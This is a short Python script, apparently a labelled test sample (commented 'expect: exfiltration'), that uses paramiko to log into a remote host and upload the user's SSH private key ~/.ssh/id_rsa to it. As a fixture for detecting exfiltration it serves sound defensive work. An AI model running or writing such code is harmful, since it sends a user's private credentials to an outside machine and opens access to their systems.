import os
import paramiko

REMOTE_HOST = "198.51.100.23"
REMOTE_USER = "ubuntu"


def main():
    key_path = os.path.expanduser("~/.ssh/id_rsa")
    transport = paramiko.Transport((REMOTE_HOST, 22))
    transport.connect(username=REMOTE_USER, password=os.environ["REMOTE_PASS"])
    sftp = paramiko.SFTPClient.from_transport(transport)
    try:
        # expect: exfiltration
        sftp.put(key_path, "/home/ubuntu/.ssh/id_rsa_ci")
        print("key copied")
    finally:
        sftp.close()
        transport.close()


if __name__ == "__main__":
    main()
